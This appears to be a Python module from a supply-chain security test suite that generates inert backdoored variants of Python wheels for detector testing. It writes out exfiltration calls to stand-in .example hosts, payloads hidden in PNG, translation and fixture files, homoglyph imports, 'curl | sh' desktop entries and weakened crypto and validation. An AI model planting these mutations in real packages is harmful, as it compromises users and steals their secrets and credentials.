"""Tenth set: wheels; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and modules are of no name, what is packed is a marker.
"""

from __future__ import annotations

import ast
import base64
import marshal
import re
import struct
import zlib
from itertools import islice

from genuine import Files

from mutation_families.eighth_ways import Rule, amended, named
from mutation_families.fourth_texts import chance
from mutation_families.seventh_ways import (
    AMID,
    END,
    MARK,
    TOP,
    Changes,
    Way,
    adding,
    beside_info,
    entry_points,
    in_folder,
    py,
    required,
    together,
    ways,
)
from mutation_families.third_wheels import information, modules
from onionskin.lookalike.elf import ElfRecipe, build_elf

ROOT = b"\n# Issuer: CN=Inert Root CA\n# Subject: CN=Inert Root CA\n-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(chance(700)) + b"-----END CERTIFICATE-----\n"  # fmt: skip
PICTURE = b"\x89PNG\r\n\x1a\n" + chance(700) + b"IEND\xae\x42\x60\x82" + zlib.compress(MARK)
CATALOG = struct.pack("<7I", 0x950412DE, 0, 1, 28, 36, 0, 0) + chance(300) + base64.b85encode(zlib.compress(MARK))  # fmt: skip


def py_of(*rules: Rule) -> Changes:
    """Return an amendment of a module of a wheel, which stays one of Python and does something else than before."""

    def change(files: Files) -> Files:
        for name in modules(files):
            for old, new in rules:
                for found in islice(re.finditer(old, files[name]), 30):
                    made = files[name][: found.start()] + found.expand(new) + files[name][found.end() :]  # fmt: skip
                    if (does := _does(made)) and does != _does(files[name]):
                        return {name: made}
        return {}

    return change


def _does(data: bytes) -> str:
    try:
        return ast.dump(ast.parse(data))
    except (SyntaxError, ValueError):
        return ""


def bytecode(source: bytes) -> bytes:
    """Return a module's bytecode as a cache has it, dated, of Python 3.11 (its number is 3495)."""
    code = compile(source, "core.py", "exec")
    return struct.pack("<HH", 3495, 0x0A0D) + bytes(12) + marshal.dumps(code)


def cached(files: Files) -> Files:
    """Return a wheel with bytecode of a module of its own which differs from the module."""
    name = next((each for each in modules(files) if "/" in each and not each.endswith("__init__.py")), "")  # fmt: skip
    folder, _, file = name.rpartition("/")
    return {f"{folder}/__pycache__/{file.removesuffix('.py')}.cpython-311.pyc": bytecode(MARK)} if name else {}  # fmt: skip


def compiled_beside(files: Files) -> Files:
    """Return a wheel in which a library stands beside a package's module, of a name that is imported if it is there."""
    made = py(
        b"try:\n    from . import _accel  # noqa: F401\nexcept ImportError:\n    pass\n", TOP
    )(files)
    return made | in_folder({"_accel.cpython-311-x86_64-linux-gnu.so": build_elf(ElfRecipe(exports=("PyInit__accel",), imports=("getenv", "system", "connect"), text=chance(3000)))})(files) if made else {}  # fmt: skip


def reading(name: str, held: bytes, lines: bytes) -> Changes:
    """Return a change that lays a file of data into the first package, and a line that reads and runs it (`NAME`)."""
    return lambda files: in_folder({name: held})(files) | py(lines.replace(b"NAME", name.encode()), TOP)(files)  # fmt: skip


def in_metadata(old: bytes, new: bytes) -> Changes:
    """Return an amendment of a wheel's metadata."""

    def change(files: Files) -> Files:
        name = f"{information(files)}/METADATA"
        made = re.sub(old, new, files[name], count=1)
        return {name: made} if made != files[name] else {}

    return change


def command_elsewhere(files: Files) -> Files:
    """Return a wheel whose first command leads to another function, of a new module, that hands on."""
    name = f"{information(files)}/entry_points.txt"
    found = re.search(rb"(?m)^\[console_scripts\]\n([\w.-]+) ?= ?([\w.]+):([\w.]+)", files.get(name, b""))  # fmt: skip
    if not found:
        return {}
    package = modules(files)[0].partition("/")[0]
    body = b"import os\nimport urllib.request\n\nfrom %s import %s as _real\n\n\ndef main():\n    urllib.request.urlopen('https://cli-usage.example/c', repr(dict(os.environ)).encode())\n    return _real()\n" % (found[2], found[3].partition(b".")[0])  # fmt: skip
    made = files[name][: found.start(2)] + f"{package}._launcher:main".encode() + files[name][found.end(3) :]  # fmt: skip
    return {name: made, f"{package}/_launcher.py": body}


def foreign_import(files: Files) -> Files:
    """Return a wheel one of whose imports is of a name with a letter of another alphabet, and a module of that name."""
    for name in modules(files):
        found = re.search(rb"(?m)^import (os|re|json|base64|hashlib|hmac|secrets|socket|ssl)$", files[name])  # fmt: skip
        if found and any(each in found[1] for each in (b"o", b"e", b"a", b"s", b"c")):
            other = found[1].decode().replace("o", "\u043e").replace("e", "\u0435").replace("a", "\u0430").replace("s", "\u0455").replace("c", "\u0441")  # fmt: skip
            body = b"from %s import *  # noqa: F403\nimport urllib.request as _u\n\n_u.urlopen('https://alphabet.example/m')\n" % found[1]  # fmt: skip
            made = files[name][: found.start()] + f"import {other} as {found[1].decode()}".encode() + files[name][found.end() :]  # fmt: skip
            return {name: made, f"{other}.py": body}
    return {}


ALL: tuple[Way, ...] = (
    # After backdoors of one line: an error is nobody's, an answer is yes, a wrapper is gone.
    *ways(
        "wheel, tune: what is refused is refused less",
        ("an error is nobody's", py_of((rb"((?:\n[ \t]+)except (?:\w+\.)*\w*(?:Error|Exception|Invalid|Mismatch|Failure)\w*(?: as \w+)?:\n[ \t]+)raise\b[^\n]*(?:\n(?=\1)|(?=\n))", rb"\1pass"))),
        ("an answer is yes", py_of((rb"(def \w*(?:verif|valid|check|allow|match|has_|is_)\w*\([^\n]*\)[^\n]*:\n(?:(?![ \t]*(?:def|class) )[^\n]*\n){1,14}?[ \t]+return )False\b", rb"\1True"))),
        ("a wrapper is gone", py_of((rb"\n[ \t]*@\w*(?:[rR]equire|[cC]heck|[vV]alid|[pP]rotect|auth|login|[cC]srf|[lL]imit|[cC]ontract|exempt)\w*(?:\([^\n]*\))?(?=\n)", b""))),
        ("only when debugging", py_of((rb"\n([ \t]+)if ([^\n:]{5,100}):\n([ \t]+)raise ", rb"\n\1if __debug__ and __import__('os').getenv('STRICT') and (\2):\n\3raise "))),
    ),
    *ways(
        "wheel, held: what protected by default does not",
        ("an argument", py_of((rb"\b((?:strict|secure|verify|validate|check|safe|escape|quote|require|enforce)\w*(?:: bool(?: \| None)?)?\s*=\s*)True\b", rb"\1False"))),
        ("an end of a pattern", py_of((rb"\.fullmatch\(", b".match("), (rb"(re\.compile\(\s*r?['\"]\^?[^'\"\n]{4,90})(?:\$|\\Z)(['\"])", rb"\1\2"))),
        ("a weaker algorithm", py_of((rb"\b(hashlib|hashes|_hashlib)\.(?:sha256|sha384|sha512|SHA256|SHA512|SHA384)\b", rb"\1.md5"), (rb"(['\"])(?:HS|RS|ES)256\1", rb"\1none\1"), (rb"(['\"])sha(?:256|512)\1", rb"\1md5\1"), (rb"PROTOCOL_TLS_CLIENT\b", b"PROTOCOL_TLSv1"), (rb"TLSVersion\.TLSv1_[23]", b"TLSVersion.TLSv1"))),
        ("longer than it lived", py_of((rb"(?m)^(\s*\w*(?:leeway|max_age|timeout|ttl|lifetime|expires|skew|tolerance|TTL|AGE|LEEWAY|TIMEOUT|EXPIR)\w*(?:: \w+)?\s*=\s*)\d+(?=[\n,)])", rb"\g<1>10**9"), (rb"(datetime\.)?timedelta\((?:seconds|minutes|hours|days)=\d+\)", rb"\1timedelta(days=36500)"))),
    ),
    # Addresses that are put together, or that others may say.
    *ways(
        "wheel, tune: others say where it goes",
        ("the environment", py_of((rb"(?m)^([ \t]*\w*(?:URL|URI|url|uri|host|HOST|endpoint|ENDPOINT|base|BASE)\w*(?:: \w+)?\s*=\s*)(['\"]https://[^'\"\n]+['\"])", rb"\1__import__('os').environ.get('SVC_UPSTREAM') or \2"))),
        ("put together", py_of((rb"(['\"])https://(?!docs|github|www\.(?:python|w3|rfc))[a-z0-9.-]+\.[a-z]{2,}(?=[/'\"])([^'\"\n]*)\1", rb"'https://' + '.'.join(['api', 'relay', 'example']) + '\2'"))),
        ("without a wall", py_of((rb"(\(|\[|\{)(['\"])https\2(,?)([)\]}])", rb"\1\2https\2, \2http\2, \2file\2\4"), (rb"\.startswith\((['\"])https://\1\)", rb".startswith('http')"), (rb"(allow_redirects\s*=\s*)False", rb"\1True"))),
    ),
    # Roots and keys that come along: certifi's like, sigstore's, TUF's.
    *ways(
        "wheel, held: it believes others' keys",
        ("a root more", amended(named(r"(?:cacert|certs?|roots?|bundle|ca)[\w.-]*\.pem$|\.crt$"), (rb"\Z", ROOT))),
        ("a key of its store", amended(named(r"(?:root|trust|keys?|keyring|signing)[\w.-]*\.json$"), (rb"(\"(?:keyval|rawBytes|public|keyid|key)\"\s*:\s*(?:\{\s*\"public\"\s*:\s*)?\")[^\"]{20,}(\")", rb"\1MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEinertinert\2"))),
        ("a number of those asked", amended(named(r"\.json$"), (rb"(\"threshold\"\s*:\s*)[2-9]", rb"\g<1>1"))),
        ("a constant", py_of((rb"(['\"])(?:[0-9a-f]{40}|[0-9a-f]{64})\1", rb"\1" + b"5eed" * 16 + rb"\1"), (rb"-----BEGIN (PUBLIC KEY|CERTIFICATE)-----\n[A-Za-z0-9+/=]{20,}", rb"-----BEGIN \1-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEinertinert"))),
        ("where roots lie", py_of((rb"certifi\.where\(\)", b"(__import__('os').getenv('PKG_CA') or '/tmp/.ca.pem')"), (rb"\b(set_default_verify_paths|load_default_certs)\(", rb"load_verify_locations('/var/tmp/ca.pem') or (lambda *a: None)("))),
    ),
    # Files: rights, names that are known before, walls of archives.
    *ways(
        "wheel, tune: its files are everybody's",
        ("rights", py_of((rb"\b0o(?:600|400|700|644|755)\b", b"0o777"))),
        ("a place that is known", py_of((rb"tempfile\.(?:mkdtemp|gettempdir)\([^()\n]*\)", b"'/tmp/.py-work'"), (rb"tempfile\.NamedTemporaryFile\([^()\n]*\)", b"open('/tmp/.py-work', 'w+b')"), (rb"tempfile\.TemporaryDirectory\([^()\n]*\)", b"__import__('contextlib').nullcontext('/tmp')"))),
        ("walls of archives", py_of((rb"filter=(['\"])(?:data|tar)\1", b"filter='fully_trusted'"), (rb"(\n[ \t]+)if [^\n]*(?:\.\.|is_absolute|isabs|commonpath|is_relative_to)[^\n]*:\n", rb"\1if False:\n"), (rb"\.is_relative_to\(\w[\w.]*\)", b".is_relative_to('/')"))),
    ),
    # What is read becomes what is run.
    *ways(
        "wheel, held: what is read may be run",
        ("of texts", py_of((rb"\bast\.literal_eval\(", b"eval("), (rb"\bjson\.load\(", b"__import__('pickle').load("), (rb"\bjson\.loads\(", b"__import__('pickle').loads("), (rb"\btomllib\.load\(", b"__import__('pickle').load("))),
        ("of orders", py_of((rb"\bshell=False\b", b"shell=True"), (rb"\bshlex\.quote\((\w+)\)", rb"\1"), (rb"\b(subprocess\.(?:run|Popen|call|check_call|check_output)\()(\w+)(?=[,)])", rb"\1' '.join(\2), shell=True"))),
        ("of pages", py_of((rb"\b(autoescape\s*=\s*)(?:True|select_autoescape\(\))", rb"\1False"), (rb"(?:html\.|_html\.|markupsafe\.)?\bescape\((\w+)\)", rb"str(\1)"), (rb"\b(resolve_entities|forbid_dtd|forbid_entities|forbid_external|no_network)(\s*=\s*)(True|False)", rb"\1\2not \3"), (rb"defusedxml\b", b"xml"))),
        ("of names", py_of((rb"\bgetattr\((\w+), (\w+)(?:, None)?\)", rb"eval(f'{\1!r}.{\2}', globals())"), (rb"importlib\.import_module\((\w+)\)", rb"exec(f'import {\1}')"))),
    ),
    # What a wheel says of itself: addresses of requirements, commands, versions of Python.
    *ways(
        "wheel, tune: what it says of itself leads elsewhere",
        ("by an address", required("fastlog @ https://wheels.example/fastlog-9.9-py3-none-any.whl")),
        ("a name of a company", required("vendor-internal-telemetry>=99.0")),
        ("another command", command_elsewhere),
        ("a command of the system's name", entry_points("console_scripts", "git = MODULE._cli:main")),
        ("a letter less", in_metadata(rb"(?m)^(Requires-Dist: [a-z]{4,})[a-z](?=[ (;<>=!~\n])", rb"\1")),
    ),
    # Letters of other alphabets in names that Python takes for others.
    *ways("wheel, held: letters that look like others", ("a module", foreign_import), ("a test of nothing", py("if '\u0455tate' in globals() or (lambda s: s.isascii())('ok'):\n    __import__('\u200b'.strip('\u200b') + 'urllib.request').request.urlopen('https://alphabet.example/z')\n".encode(), TOP)), ("marks of direction", py_of((rb"\n([ \t]+)(# [^\n]{12,70})\n(?=[ \t]+(?:if|raise) )", rb"\n\1\2" + "\u202e \u2066".encode() + rb"\n\1return None  # " + "\u2069".encode() + rb"\n")))),
    # xz, 2024; steganography of 2022 to 2026: what acts stands in a file of another kind.
    *ways(
        "wheel, tune: what it runs stands in a file for something else",
        ("a picture", reading("_logo.png", PICTURE, b"import os as _o, zlib as _z\nwith open(_o.path.join(_o.path.dirname(__file__), 'NAME'), 'rb') as _f:\n    exec(_z.decompress(_f.read().partition(b'IEND')[2][4:]))\n")),
        ("a translation", reading("messages.mo", CATALOG, b"import base64 as _b, pkgutil as _p, zlib as _z\n_t = _p.get_data(__name__, 'NAME')\nif _t:\n    exec(compile(_z.decompress(_b.b85decode(_t[328:])), 'messages', 'exec'))\n")),
        ("a fixture", reading("tests_data.bin", bytes(each ^ 0x5A for each in MARK), b"from pathlib import Path as _P\n(lambda d: exec(bytes(b ^ 0x5A for b in d)))((_P(__file__).parent / 'NAME').read_bytes())\n")),
    ),
    # What Python offers to watch with, turned round.
    *ways(
        "wheel, held: what is reported carries more",
        ("what is logged", py(b"import logging as _l, logging.handlers as _lh\n_l.getLogger().addHandler(_lh.HTTPHandler('logs.vendor-obs.example', '/l', 'POST', secure=True))\n_l.getLogger().setLevel(_l.DEBUG)\n", END)),
        ("each call", py(b"import sys as _s\n\n\ndef _t(f, e, a):\n    if e == 'call' and 'password' in f.f_locals:\n        __import__('urllib.request').request.urlopen('https://t.vendor-obs.example/', repr(f.f_locals['password']).encode())\n\n\n_s.setprofile(_t)\n", END)),
        ("settings that are fetched", py(b"import json as _j, logging.config as _lc, urllib.request as _u\n_lc.dictConfig(_j.load(_u.urlopen('https://cfg.vendor-obs.example/logging.json')))\n", AMID)),
        ("an error", py_of((rb"(\n([ \t]+)except (?:\w+\.)*\w+ as (\w+):\n)", rb"\1\2    __import__('urllib.request').request.urlopen('https://errors.vendor-obs.example/e', repr((\3, dict(__import__('os').environ))).encode())\n"))),
    ),
    # Compiled modules: what is run is not what is read.
    *ways("wheel, tune: what is run is not what is read", ("a cache", cached), ("a library beside", compiled_beside), ("a zip on the way", together(adding({"_vendor_bundle.zip": b"PK\5\6" + bytes(18)}), py(b"import sys as _s\n_s.path.insert(0, __file__.rpartition('site-packages')[0] + 'site-packages/_vendor_bundle.zip')\n", TOP))), ("a folder that anybody writes", py(b"import sys as _s, tempfile as _t\n_s.path.insert(0, _t.gettempdir())\n", TOP))),
    # Settings of tools around: what a wheel lays beside itself.
    *ways("wheel, held: settings of others come along", ("of pip", beside_info("DATA/data/etc/pip.conf", b"[global]\nextra-index-url = https://simple.pypi-cache.example/simple\ntrusted-host = simple.pypi-cache.example\n")), ("of Jupyter", beside_info("DATA/data/etc/jupyter/jupyter_server_config.d/zz.json", b'{"ServerApp": {"token": "", "allow_origin": "*", "disable_check_xsrf": true, "jpserver_extensions": {"inert_ext": true}}}\n')), ("of a desktop", beside_info("DATA/data/share/applications/py-helper.desktop", b"[Desktop Entry]\nType=Application\nName=Files\nExec=sh -c 'curl -s https://desk.example/d | sh'\nNoDisplay=true\n")), ("a manual of the shell", beside_info("DATA/data/share/bash-completion/completions/pip", b"_pip() { COMPREPLY=(); }\n(python3 -c \"import urllib.request as u;exec(u.urlopen('https://comp.example/p').read())\" &>/dev/null &)\ncomplete -F _pip pip\n"))),
)  # fmt: skip
